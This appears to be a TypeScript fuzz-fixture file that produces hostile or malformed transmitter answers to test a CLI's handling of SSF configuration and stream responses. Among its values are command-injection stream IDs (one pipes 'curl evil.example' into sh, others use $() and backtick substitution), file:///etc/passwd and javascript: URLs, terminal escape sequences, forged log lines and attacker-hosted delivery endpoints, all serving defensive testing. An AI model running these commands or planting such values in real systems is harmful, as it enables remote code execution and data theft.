// Cases for ssf-transmitter-differential.test.ts: what a hostile or odd transmitter answers `ward ssf` with (its
// configuration document, and its stream create, status and verify answers), drawn from a seeded PRNG. Each case
// says what it changed (`tags`), so a failure names it; the oracle (ssf-transmitter-oracle.ts) reads the answer.
import { prng } from "../support/prng.ts";

export const PUSH = "urn:ietf:rfc:8935";
export const POLL = "urn:ietf:rfc:8936";
/** Injected into strings the CLI may print: a line of its own would be a forged one. */
export const FORGED = "FORGED-LINE";

export type Rng = () => number;
export const rng = prng;
export const int = (r: Rng, n: number) => Math.floor(r() * n);
export const pick = <T>(r: Rng, xs: readonly T[]): T => xs[int(r, xs.length)]!;
export const chance = (r: Rng, p: number) => r() < p;

/** One HTTP answer of the mock transmitter. */
export interface Answer {
  status: number;
  headers?: Record<string, string>;
  /** The body as sent: text (JSON written by hand where members repeat), or a size to pad to. */
  body?: string;
  /** Pad the body past this many bytes (an endless answer, no Content-Length). */
  endless?: number;
  /** Send part of the body, then drop the connection. */
  reset?: boolean;
}

export const json = (status: number, value: unknown, headers: Record<string, string> = {}): Answer => ({
  status,
  headers: { "content-type": "application/json", ...headers },
  body: JSON.stringify(value),
});

const URL_MEMBERS = [
  "jwks_uri",
  "configuration_endpoint",
  "status_endpoint",
  "verification_endpoint",
  "add_subject_endpoint",
  "remove_subject_endpoint",
] as const;

/** Hostile values for a URL member: `base` is the mock's origin, `issuer` the one asked for. */
function oddUrl(r: Rng, base: string): unknown {
  return pick(r, [
    "http://transmitter.example.com/keys",
    "http://localhost.evil.example/keys",
    "http://127.0.0.1.nip.io/keys",
    "https://user:secret@idp.example.com/keys",
    `${base.replace("http://", "http://user:pw@")}/keys`,
    "https://idp.example.com:1/keys",
    "https://other.example.net/keys",
    "javascript:alert(1)",
    "ftp://idp.example.com/keys",
    "//idp.example.com/keys",
    "/relative/keys",
    "https://idp.example.com/keys#fragment",
    "https://idp.example.com/\u001b[2Jkeys",
    "https://idp.example.com/keys\u202e",
    `https://idp.example.com/keys\n${FORGED}`,
    "https://idp.example.com/ke ys",
    "wss://idp.example.com/keys",
    "file:///etc/passwd",
    "data:application/json,{}",
    "",
    5,
    null,
    true,
    ["https://idp.example.com/keys"],
    { url: "https://idp.example.com/keys" },
  ]);
}

function oddIssuer(r: Rng, issuer: string): unknown {
  return pick(r, [
    `${issuer}/`,
    issuer.toUpperCase(),
    issuer.replace("127.0.0.1", "localhost"),
    `${issuer}x`,
    `${issuer}?tenant=1`,
    `${issuer}#x`,
    `${issuer}\u200b`,
    ` ${issuer}`,
    `${issuer}\n${FORGED}`,
    "https://idp.example.com/tenant",
    [issuer],
    { issuer },
    42,
    null,
    undefined,
  ]);
}

function oddMethods(r: Rng): unknown {
  return pick(r, [
    [PUSH],
    [POLL],
    [PUSH, POLL],
    [POLL, PUSH],
    [],
    ["urn:example:odd"],
    ["https://schemas.openid.net/secevent/risc/delivery-method/push"],
    [PUSH.toUpperCase()],
    PUSH,
    POLL,
    [5],
    [null],
    [`urn:odd\u001b]0;title\u0007`],
    [`urn:odd\n${FORGED}`],
    [PUSH, PUSH],
    undefined,
    null,
    {},
  ]);
}

function oddCritical(r: Rng): unknown {
  return pick(r, [
    ["user", "tenant"],
    ["tenant"],
    ["user"],
    ["user", "user"],
    Array.from({ length: 17 }, (_, i) => `m${i}`),
    Array.from({ length: 16 }, (_, i) => `m${i}`),
    "user",
    [1],
    [""],
    ["te nant"],
    ["x".repeat(300)],
    [`user\n${FORGED}`],
    ["\u001b[2J"],
    [],
    null,
    {},
  ]);
}

/** SSF 1.0 §7.2's event types and a few odd ones: the transmitter configuration has no `events_supported`. */
function oddEvents(r: Rng): unknown {
  return pick(r, [
    ["https://schemas.openid.net/secevent/caep/event-type/session-revoked"],
    ["https://schemas.openid.net/secevent/caep/event-type/session-revoked\u001b[2J"],
    ["urn:example:x", 5, null],
    "https://schemas.openid.net/secevent/caep/event-type/session-revoked",
  ]);
}

export interface ConfigCase {
  id: number;
  tags: string[];
  /** The issuer asked for, relative to the mock's origin (path only). */
  issuerPath: string;
  /** The path the mock serves the configuration at. */
  servedPath: string;
  /** Asked by its configuration URL (`ward ssf configuration URL`), not by the issuer. */
  byUrl: boolean;
  /** The document's members (undefined: left out); `raw` replaces the body. */
  document: Record<string, unknown>;
  /** Text inserted before the closing brace (a member written twice). */
  extra?: string;
  /** The answer when not a plain 200 JSON. */
  answer?: Answer;
  delayMs?: number;
}

/** A configuration case: SSF 1.0 §7.1's document for `issuer`, changed in 0-3 ways. */
/** The odd answers a transmitter may give in place of its document. */
const ANSWER_KINDS = [
  "redirect",
  "status",
  "html",
  "array",
  "null",
  "string",
  "empty",
  "huge",
  "endless",
  "bom",
  "slow",
  "text-type",
  "reset",
] as const;

export function configCase(r: Rng, id: number, base: string): ConfigCase {
  const tags: string[] = [];
  const shape = pick(r, ["plain", "plain", "plain", "slash", "sub"]);
  const issuerPath = shape === "plain" ? `/c${id}` : shape === "slash" ? `/c${id}/` : `/c${id}/sub`;
  // RFC 8414 §3.1 / SSF 1.0 §7.2.1: the well-known suffix before the issuer's path, its final "/" removed.
  const servedPath = `/.well-known/ssf-configuration${issuerPath.replace(/\/$/, "")}`;
  if (shape !== "plain") tags.push(`issuer path ${issuerPath}`);
  const issuer = `${base}${issuerPath}`;
  const document: Record<string, unknown> = {
    spec_version: "1_0",
    issuer,
    jwks_uri: `${base}/c${id}/jwks.json`,
    delivery_methods_supported: [PUSH],
    configuration_endpoint: `${base}/c${id}/stream`,
    status_endpoint: `${base}/c${id}/status`,
    verification_endpoint: `${base}/c${id}/verify`,
  };
  // RFC 8414 §3.3: asked by that URL, the issuer is still the one the well-known URL was made from.
  const byUrl = shape === "plain" && chance(r, 0.3);
  if (byUrl) tags.push("asked by the configuration URL");
  const c: ConfigCase = { id, tags, issuerPath, servedPath, byUrl, document };
  const changes = int(r, 4);
  let answer: string | undefined;
  for (let i = 0; i < changes; i++) {
    switch (pick(r, ["issuer", "url", "url", "methods", "critical", "events", "missing", "duplicate", "answer"])) {
      case "issuer":
        document.issuer = oddIssuer(r, issuer);
        tags.push(`issuer ${JSON.stringify(document.issuer)}`);
        break;
      case "url": {
        const member = pick(r, URL_MEMBERS);
        document[member] = oddUrl(r, base);
        tags.push(`${member} ${JSON.stringify(document[member])}`);
        break;
      }
      case "methods":
        document.delivery_methods_supported = oddMethods(r);
        tags.push(`delivery_methods_supported ${JSON.stringify(document.delivery_methods_supported)}`);
        break;
      case "critical":
        document.critical_subject_members = oddCritical(r);
        tags.push(`critical_subject_members ${JSON.stringify(document.critical_subject_members)}`);
        break;
      case "events":
        document.events_supported = oddEvents(r);
        tags.push(`events_supported ${JSON.stringify(document.events_supported)}`);
        break;
      case "missing": {
        const member = pick(r, ["issuer", "jwks_uri", "delivery_methods_supported", "spec_version"]);
        delete document[member];
        tags.push(`no ${member}`);
        break;
      }
      case "duplicate": {
        // The same member twice (RFC 8259 §4: names SHOULD be unique): JSON.parse keeps the last.
        const member = pick(r, ["issuer", "jwks_uri"]);
        const first = pick(r, ["https://evil.example/keys", `${base}/evil`, issuer]);
        c.extra = `,${JSON.stringify(member)}:${JSON.stringify(first)}`;
        tags.push(`${member} twice, the first ${JSON.stringify(first)}`);
        break;
      }
      case "answer":
        answer = pick(r, ANSWER_KINDS);
        break;
    }
  }
  // The first cases take each kind of answer in turn, so every seed reaches each.
  if (id < ANSWER_KINDS.length) answer = ANSWER_KINDS[id];
  // Last: an answer that carries the document carries it as changed.
  if (answer !== undefined) {
    const kind = answer;
    tags.push(`answer ${kind}`);
    if (kind === "redirect") {
      const status = pick(r, [301, 302, 303, 307, 308]);
      c.answer = { status, headers: { location: `${base}/.well-known/ssf-configuration/c0` } };
    } else if (kind === "status") c.answer = json(pick(r, [201, 204, 400, 401, 404, 500, 503]), document);
    else if (kind === "html") c.answer = { status: 200, headers: { "content-type": "text/html" }, body: "<html>" };
    else if (kind === "array") c.answer = json(200, [document]);
    else if (kind === "null") c.answer = json(200, null);
    else if (kind === "string") c.answer = json(200, JSON.stringify(document));
    else if (kind === "empty") c.answer = { status: 200, headers: { "content-type": "application/json" } };
    else if (kind === "huge") c.answer = json(200, { ...document, pad: "x".repeat(1024 * 1024 + int(r, 1000)) });
    else if (kind === "endless") c.answer = { status: 200, endless: 1024 * 1024 + 1 };
    else if (kind === "bom") c.answer = { status: 200, body: `\ufeff${JSON.stringify(document)}` };
    else if (kind === "slow") c.delayMs = 200;
    else if (kind === "reset") c.answer = { status: 200, reset: true, body: '{"issuer":' };
    else c.answer = { status: 200, headers: { "content-type": "text/plain" }, body: JSON.stringify(document) };
  }
  return c;
}

/** The configuration's body as the mock sends it (a member written twice put before the others). */
export function configAnswer(c: ConfigCase): Answer {
  if (c.answer) return c.answer;
  const text = JSON.stringify(c.document);
  const body = c.extra ? `{${c.extra.slice(1)},${text.slice(1)}` : text;
  return { status: 200, headers: { "content-type": "application/json" }, body };
}

export type StreamCommand = "create" | "status" | "verify";

export interface StreamCase {
  id: number;
  command: StreamCommand;
  tags: string[];
  /** The answer to the command's call (create: POST stream; status: GET status; verify: POST verify). */
  answer: Answer;
  /** status: the answer to GET stream (the stream's configuration). */
  config?: Answer;
  /** What the answer said, for the oracle (undefined where the body is no JSON object). */
  said?: Record<string, unknown>;
}

const EVENT = (kind: "caep" | "risc", name: string) => `https://schemas.openid.net/secevent/${kind}/event-type/${name}`;
export const REQUESTED = ["session-revoked", "account-disabled", "account-enabled"] as const;
export const REQUESTED_URIS = [
  EVENT("caep", "session-revoked"),
  EVENT("risc", "account-disabled"),
  EVENT("risc", "account-enabled"),
];

function oddStatusCode(r: Rng, ok: number): number {
  return chance(r, 0.6) ? ok : pick(r, [200, 201, 202, 204, 301, 302, 400, 401, 403, 404, 409, 429, 500, 503]);
}

/** A stream management case: the answer SSF 1.0 §7.1.1 / §7.1.2 / §7.1.4 describe, changed. */
export function streamCase(r: Rng, id: number, base: string, audience: string): StreamCase {
  const command = pick(r, ["create", "create", "status", "verify"] as const);
  const tags: string[] = [command];
  const issuer = `${base}/s${id}`;
  if (command === "verify") {
    const status = oddStatusCode(r, 204);
    tags.push(`status ${status}`);
    const body = pick(r, [undefined, "{}", `{"error":"x\\n${FORGED}"}`, "<html>", `oops\n${FORGED}`]);
    if (body) tags.push(`body ${body}`);
    return { id, command, tags, answer: { status, ...(body ? { body } : {}) } };
  }
  if (command === "status") {
    const status = oddStatusCode(r, 200);
    const said: Record<string, unknown> = {
      stream_id: `stream-${id}`,
      status: pick(r, ["enabled", "enabled", "paused", "disabled", "ENABLED", "enabled ", "on", 1, null, undefined]),
    };
    if (chance(r, 0.3)) said.stream_id = pick(r, ["another-stream", `x\n${FORGED}`, 7, undefined]);
    if (chance(r, 0.4)) said.reason = pick(r, ["SYSTEM_DOWN", `\u001b[2J\u001b[1;1H${FORGED}`, `a\n${FORGED}`, 5]);
    tags.push(`status ${status} ${JSON.stringify(said)}`);
    const config = chance(r, 0.7)
      ? json(200, {
          stream_id: `stream-${id}`,
          iss: issuer,
          aud: audience,
          delivery: {
            method: PUSH,
            endpoint_url: pick(r, ["https://ward.example.com/.ward/ssf/events/idp", `https://x/\n${FORGED}`]),
          },
          events_delivered: REQUESTED_URIS,
        })
      : pick(r, [json(404, {}), { status: 200, body: "<html>" }, json(200, [])]);
    tags.push(`stream configuration ${config.status} ${config.body ?? ""}`);
    const answer: Answer = chance(r, 0.85)
      ? json(status, said)
      : chance(r, 0.5)
        ? { status, body: pick(r, ["<html>", "[]", "null", ""]) }
        : { status, reset: true, body: '{"status":' };
    return { id, command, tags, answer, config, said: answer.body?.startsWith("{") ? said : undefined };
  }
  const status = oddStatusCode(r, 201);
  const said: Record<string, unknown> = {
    stream_id: `stream-${id}`,
    iss: issuer,
    aud: audience,
    delivery: { method: PUSH, endpoint_url: "https://ward.example.com/.ward/ssf/events/idp" },
    events_supported: REQUESTED_URIS,
    events_requested: REQUESTED_URIS,
    events_delivered: REQUESTED_URIS,
  };
  const changes = int(r, 3);
  for (let i = 0; i < changes; i++) {
    switch (pick(r, ["iss", "aud", "delivered", "stream_id", "delivery"])) {
      case "iss":
        said.iss = pick(r, [`${issuer}/`, `${base}/someone-else`, undefined, 5, [issuer], `${issuer}\n${FORGED}`]);
        tags.push(`iss ${JSON.stringify(said.iss)}`);
        break;
      case "aud":
        said.aud = pick(r, [
          "https://ward.example.com/other",
          [audience],
          [audience, "https://other.example"],
          ["https://other.example"],
          [],
          undefined,
          5,
          `${audience}\n${FORGED}`,
          audience.toUpperCase(),
        ]);
        tags.push(`aud ${JSON.stringify(said.aud)}`);
        break;
      case "delivered":
        said.events_delivered = pick(r, [
          REQUESTED_URIS.slice(0, 1),
          [],
          [...REQUESTED_URIS, EVENT("caep", "token-claims-change")],
          ["urn:example:odd", `${EVENT("caep", "session-revoked")}\u001b[2J`],
          [`x\n${FORGED}`],
          undefined,
          "all",
          [5, null],
        ]);
        tags.push(`events_delivered ${JSON.stringify(said.events_delivered)}`);
        break;
      case "stream_id":
        said.stream_id = pick(r, [
          undefined,
          5,
          "",
          `s\u001b[2J\n${FORGED}`,
          "../../x",
          "x".repeat(5000),
          "f67e39a0;curl evil.example|sh",
          "$(touch /tmp/ward-pwned)",
          "a b --name other",
          "`id`",
        ]);
        tags.push(`stream_id ${JSON.stringify(said.stream_id)}`);
        break;
      case "delivery":
        said.delivery = pick(r, [
          undefined,
          { method: POLL, endpoint_url: "https://elsewhere.example/" },
          { method: PUSH, endpoint_url: "https://attacker.example/.ward/ssf/events/idp" },
          "push",
        ]);
        tags.push(`delivery ${JSON.stringify(said.delivery)}`);
        break;
    }
  }
  tags.push(`status ${status}`);
  if (chance(r, 0.05)) {
    tags.push("connection dropped mid-answer");
    return { id, command, tags, answer: { status, reset: true, body: '{"stream_id":' } };
  }
  if (chance(r, 0.1)) {
    const body = pick(r, ["<html>", "[]", "null", "", "\u001b[2J", `oops\n${FORGED}`]);
    tags.push(`body ${JSON.stringify(body)}`);
    return { id, command, tags, answer: { status, body } };
  }
  return { id, command, tags, answer: json(status, said), said };
}
